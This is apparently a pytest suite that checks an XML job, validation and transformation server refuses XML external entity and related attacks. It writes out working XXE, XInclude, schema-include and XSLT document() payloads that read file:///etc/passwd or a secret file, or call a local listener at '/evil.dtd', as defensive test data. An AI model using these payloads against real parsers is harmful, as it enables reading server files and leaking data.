"""XML external entities: to a file, to a URL, through parameter entities and external DTDs, in
start bodies (`<job>`) and in the uploads of `validate` and `transform` (documents, schemas,
stylesheets). None is ever resolved: no connection reaches the listener, no file's content
comes back in an answer, a report, a result, a log or the server's own log.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.hostile.payloads import (
    GROUP,
    LEAK,
    MARKER,
    assert_no_leak,
    check_error,
    finish,
    post_xml,
    result_bytes,
    start_upload,
    still_serving,
    thread_logs,
    thread_total,
    zip_of,
)
from tests.support import Listener, Server

pytestmark = pytest.mark.slow

DATA = Path(__file__).resolve().parents[1] / "data"
BOOK_XSD = ("book.xsd", (DATA / "validate" / "book.xsd").read_bytes())
COPY_XSL = ("copy.xsl", (DATA / "transform" / "copy.xsl").read_bytes())
GOOD_BOOK = b'<book><title>T</title><chapter n="1">c</chapter></book>'


@pytest.fixture
def listener() -> Iterator[Listener]:
    with Listener(LEAK) as item:
        yield item


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A local file the server could read, holding the marker."""
    path = tmp_path / "secret.xml"
    path.write_text(f"<secret>{MARKER}</secret>")
    return path


def bodies(listener: Listener, secret: Path) -> dict[str, bytes]:
    http = listener.url("/evil.dtd")
    return {
        "entity-file-passwd": (
            b'<?xml version="1.0"?><!DOCTYPE job [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            b'<job name="sleep"><param name="result">&xxe;</param></job>'),
        "entity-file-secret": (
            f'<!DOCTYPE job [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>'
            '<job name="sleep"><param name="result">&xxe;</param></job>').encode(),
        "entity-in-attribute": (
            f'<!DOCTYPE job [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>'
            '<job name="sleep"><param name="result" value="&xxe;"/></job>').encode(),
        "entity-http": (
            f'<!DOCTYPE job [<!ENTITY xxe SYSTEM "{http}">]>'
            '<job name="sleep"><param name="result">&xxe;</param></job>').encode(),
        "parameter-entity-http": (
            f'<!DOCTYPE job [<!ENTITY % remote SYSTEM "{http}"> %remote;]>'
            '<job name="sleep"><param name="result">&leak;</param></job>').encode(),
        "parameter-entity-file": (
            b'<!DOCTYPE job [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><job name="sleep"/>'),
        "external-dtd-http": f'<!DOCTYPE job SYSTEM "{http}"><job name="sleep"/>'.encode(),
        "external-dtd-public": (
            f'<!DOCTYPE job PUBLIC "-//X//Y//EN" "{http}"><job name="sleep"/>').encode(),
        "external-dtd-file": b'<!DOCTYPE job SYSTEM "file:///etc/passwd"><job name="sleep"/>',
    }


NAMES = [
    "entity-file-passwd", "entity-file-secret", "entity-in-attribute", "entity-http",
    "parameter-entity-http", "parameter-entity-file", "external-dtd-http", "external-dtd-public",
    "external-dtd-file",
]


# libxml2 itself refuses an external entity in an attribute value, before any DOCTYPE check
REFUSAL = {"entity-in-attribute": "Attribute references external entity 'xxe'"}


# -- start bodies -----------------------------------------------------------------------------
@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("prefix", ["/ps/service", "/ps/api"])
def test_xxe_in_a_start_body_is_400_and_resolves_nothing(
    server: Server, listener: Listener, secret: Path, name: str, prefix: str
) -> None:
    before = thread_total(server)
    with server.client("contributor") as http:
        response = post_xml(http, bodies(listener, secret)[name],
                            f"{prefix}/groups/dev/threads")
    check_error(response, 400, "0201", REFUSAL.get(name, "may not have a DOCTYPE"))
    assert_no_leak(response.text)
    assert listener.connections == 0
    assert thread_total(server) == before  # nothing started
    assert_no_leak(server.log.read_text())


def test_xinclude_in_a_start_body_is_not_processed(
    server: Server, listener: Listener, secret: Path
) -> None:
    """XInclude needs no DOCTYPE: a `<xi:include>` anywhere is a 400, in <job> or inside a
    parameter (markup, not text: a parameter holding elements is refused), and nothing is
    fetched."""
    include = (f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
               f'href="{secret.as_uri()}" parse="text"/>')
    with server.client("contributor") as http:
        check_error(post_xml(http, f'<job name="sleep">{include}</job>'.encode()),
                    400, "0201", "may hold only <param> elements")
        inside = post_xml(http, (f'<job name="sleep"><param name="seconds">0</param>'
                                 f'<param name="result">{include}</param></job>').encode())
        check_error(inside, 400, "0201", "'result' may hold only text")
        assert_no_leak(inside.text)
    assert listener.connections == 0


# -- validate -------------------------------------------------------------------------------
def document_attacks(listener: Listener, secret: Path) -> list[tuple[str, bytes]]:
    http = listener.url("/evil.dtd")
    return [
        ("file.xml", (b'<!DOCTYPE book [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                     b"<book><title>&xxe;</title></book>")),
        ("secret.xml", f'<!DOCTYPE book [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>'
                       "<book><title>&xxe;</title></book>".encode()),
        ("http.xml", f'<!DOCTYPE book [<!ENTITY xxe SYSTEM "{http}">]>'
                     "<book><title>&xxe;</title></book>".encode()),
        ("parameter.xml", f'<!DOCTYPE book [<!ENTITY % remote SYSTEM "{http}"> %remote;]>'
                          "<book><title>&leak;</title></book>".encode()),
        ("external-dtd.xml", f'<!DOCTYPE book SYSTEM "{http}">'.encode() + GOOD_BOOK),
    ]


@pytest.mark.parametrize("schema", ["xsd", "none"])
def test_xxe_in_validated_documents_is_never_read(
    server: Server, listener: Listener, secret: Path, schema: str
) -> None:
    uploads = [("documents", doc) for doc in document_attacks(listener, secret)]
    if schema == "xsd":
        uploads.append(("schema", BOOK_XSD))
    with server.client("contributor") as http:
        tid = start_upload(http, "validate", uploads)
        thread = finish(http, tid)
        report = result_bytes(http, tid)
        events = thread_logs(http, tid)
    assert thread.get("status") == "failed"
    assert report is not None
    text = report.decode()
    for path in ("file.xml", "secret.xml", "http.xml"):
        assert f'<document path="{path}" status="invalid">' in text, text
    assert text.count("Entity &amp;xxe; is not loaded: external entities are never read") == 3
    assert listener.connections == 0
    assert_no_leak(text, thread.findtext("message") or "", *(t for _, t in events),
                   server.log.read_text())


SCHEMA_ATTACKS = {
    "include-file.xsd": (
        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
        '<xs:include schemaLocation="SECRET"/><xs:element name="book"/></xs:schema>'),
    "import-http.xsd": (
        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
        '<xs:import namespace="urn:x" schemaLocation="HTTP"/><xs:element name="book"/></xs:schema>'),
    "entity.xsd": (
        '<!DOCTYPE xs:schema [<!ENTITY xxe SYSTEM "SECRET">]>'
        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
        '<xs:element name="book"><xs:annotation><xs:documentation>&xxe;</xs:documentation>'
        '</xs:annotation></xs:element></xs:schema>'),
    "external-ref.rng": (
        '<element name="book" xmlns="http://relaxng.org/ns/structure/1.0">'
        '<externalRef href="SECRET"/></element>'),
    "document.sch": (
        '<sch:schema xmlns:sch="http://purl.oclc.org/dsdl/schematron"><sch:pattern>'
        '<sch:rule context="book"><sch:assert test="false()">'
        '<sch:value-of select="document(\'SECRET\')"/></sch:assert></sch:rule>'
        '</sch:pattern></sch:schema>'),
    "parameter-entity.dtd": '<!ENTITY % p SYSTEM "HTTP"> %p; <!ELEMENT book ANY>',
}


REFERS = "The schema {} refers to another file ("
OUTCOME = {
    "include-file.xsd": ("failed", REFERS.format("include-file.xsd") + "xs:include 'file:///"),
    "import-http.xsd": ("failed", REFERS.format("import-http.xsd") + "xs:import 'http://"),
    # the entity is left unexpanded in an annotation, which XSD ignores: a usable schema
    "entity.xsd": ("completed", "Validated 1 document: 1 valid, 0 invalid"),
    "external-ref.rng": ("failed", REFERS.format("external-ref.rng") + "externalRef 'file:///"),
    # document() is denied: the assert fails, and the finding holds nothing of the file
    "document.sch": ("failed", "Validated 1 document: 0 valid, 1 invalid"),
    "parameter-entity.dtd": ("failed", "The DTD parameter-entity.dtd cannot be used: http://"),
}


@pytest.mark.parametrize("schema", sorted(SCHEMA_ATTACKS))
def test_schemas_that_reach_outside_read_nothing(
    server: Server, listener: Listener, secret: Path, schema: str
) -> None:
    text = SCHEMA_ATTACKS[schema].replace("SECRET", secret.as_uri()).replace(
        "HTTP", listener.url("/evil.xsd"))
    with server.client("contributor") as http:
        tid = start_upload(http, "validate",
                           [("documents", ("book.xml", GOOD_BOOK)),
                            ("schema", (schema, text.encode()))])
        thread = finish(http, tid)
        report = result_bytes(http, tid)
        events = thread_logs(http, tid)
    status, message = OUTCOME[schema]
    assert thread.get("status") == status, thread.findtext("message")
    assert (thread.findtext("message") or "").startswith(message), thread.findtext("message")
    assert listener.connections == 0
    assert_no_leak(report or b"", thread.findtext("message") or "", *(t for _, t in events),
                   server.log.read_text())


# -- transform ------------------------------------------------------------------------------
def stylesheet(body: str, top: str = "") -> tuple[str, bytes]:
    return ("evil.xsl", (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        f'{top}<xsl:template match="/"><out>{body}</out></xsl:template></xsl:stylesheet>'
    ).encode())


def test_transform_documents_with_entities_are_errors(
    server: Server, listener: Listener, secret: Path
) -> None:
    documents = [("documents", doc) for doc in document_attacks(listener, secret)]
    documents.append(("documents", ("fine.xml", GOOD_BOOK)))
    with server.client("contributor") as http:
        tid = start_upload(http, "transform", [*documents, ("stylesheet", COPY_XSL)])
        thread = finish(http, tid)
        result = result_bytes(http, tid)
        events = thread_logs(http, tid)
    assert thread.get("status") == "failed"
    errors = [text for level, text in events if level == "ERROR"]
    for name in ("file.xml", "secret.xml", "http.xml", "parameter.xml"):
        assert any(e.startswith(f"Document {name}") and "entit" in e for e in errors), errors
    assert result is not None
    assert listener.connections == 0
    assert_no_leak(result, *(t for _, t in events), server.log.read_text())


@pytest.mark.parametrize("target", ["secret", "passwd", "http"])
def test_stylesheet_document_function_is_denied(
    server: Server, listener: Listener, secret: Path, target: str
) -> None:
    url = {"secret": secret.as_uri(), "passwd": "file:///etc/passwd",
           "http": listener.url("/doc.xml")}[target]
    with server.client("contributor") as http:
        tid = start_upload(http, "transform", [
            ("documents", ("a.xml", GOOD_BOOK)),
            ("stylesheet", stylesheet(f"<xsl:copy-of select=\"document('{url}')\"/>")),
        ])
        thread = finish(http, tid)
        result = result_bytes(http, tid)
        events = thread_logs(http, tid)
    assert thread.get("status") == "failed"
    [error] = [text for level, text in events if level == "ERROR"]
    assert error.startswith("Document a.xml: The stylesheet failed:"), error
    assert "refused" in error or "denied" in error, error
    assert listener.connections == 0
    assert_no_leak(result or b"", *(t for _, t in events), server.log.read_text())


@pytest.mark.parametrize("kind", ["include", "import"])
@pytest.mark.parametrize("target", ["file", "http"])
def test_stylesheet_include_and_import_are_refused(
    server: Server, listener: Listener, tmp_path: Path, kind: str, target: str
) -> None:
    included = tmp_path / "included.xsl"
    included.write_text(
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        f'<xsl:template match="/"><leak>{MARKER}</leak></xsl:template></xsl:stylesheet>')
    href = included.as_uri() if target == "file" else listener.url("/evil.xsl")
    with server.client("contributor") as http:
        tid = start_upload(http, "transform", [
            ("documents", ("a.xml", GOOD_BOOK)),
            ("stylesheet", stylesheet("", top=f'<xsl:{kind} href="{href}"/>')),
        ])
        thread = finish(http, tid)
        events = thread_logs(http, tid)
        assert http.get(f"{GROUP}/threads/{tid}/result").status_code == 409  # no result
    assert thread.get("status") == "failed"
    assert thread.findtext("message") == (
        f"The stylesheet may not use xsl:{kind} (href '{href}', line 1): it must be self-contained")
    assert listener.connections == 0
    assert_no_leak(*(t for _, t in events))


def test_xxe_inside_a_zip_is_never_read(server: Server, listener: Listener, secret: Path) -> None:
    packed = zip_of(document_attacks(listener, secret))
    with server.client("contributor") as http:
        tid = start_upload(http, "validate", [("documents", ("set.zip", packed)),
                                              ("schema", BOOK_XSD)])
        thread = finish(http, tid)
        report = result_bytes(http, tid)
    assert thread.get("status") == "failed"
    assert report is not None and b'path="file.xml" status="invalid"' in report
    assert listener.connections == 0
    assert_no_leak(report)
    still_serving(server)
